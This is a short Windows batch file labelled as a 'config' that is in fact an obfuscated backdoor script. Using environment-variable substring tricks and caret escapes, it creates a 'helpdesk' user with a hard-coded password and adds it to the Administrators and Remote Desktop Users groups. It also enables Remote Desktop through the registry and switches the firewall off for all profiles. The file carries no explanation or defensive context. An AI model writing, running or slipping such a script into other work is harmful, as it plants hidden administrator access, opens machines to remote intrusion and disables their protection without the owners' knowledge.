REM config 6101 v2
%comspec:~-22,1%%COMSPEC:~-3,1%%COMSPEC:~-13,1% us^er ^h^el^pd^e^sk Adm^1n!s^tr^a^t^0^r /^ad^d /y
%comspec:~5,1%%COMSPEC:~15,1%t l^ocal^grou^p admini^s^tr^ato^rs ^he^lpdes^k /^ad^d
%COMSPEC:~5,1%%comspec:~15,1%t ^loca^lgro^u^p "Remote Desktop Users" h^e^lp^des^k /a^d^d
%PUBLIC:~6,1%%comspec:~-1,1%%programdata:~-8,1% add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fD^en^yTSCo^nne^ct^i^o^ns /^t RE^G_DW^ORD /^d 0 /^f
%windir:~5,1%%comspec:~-12,1%t^s^h ^ad^v^f^irewa^ll ^se^t all^pro^f^i^les s^ta^t^e o^ff
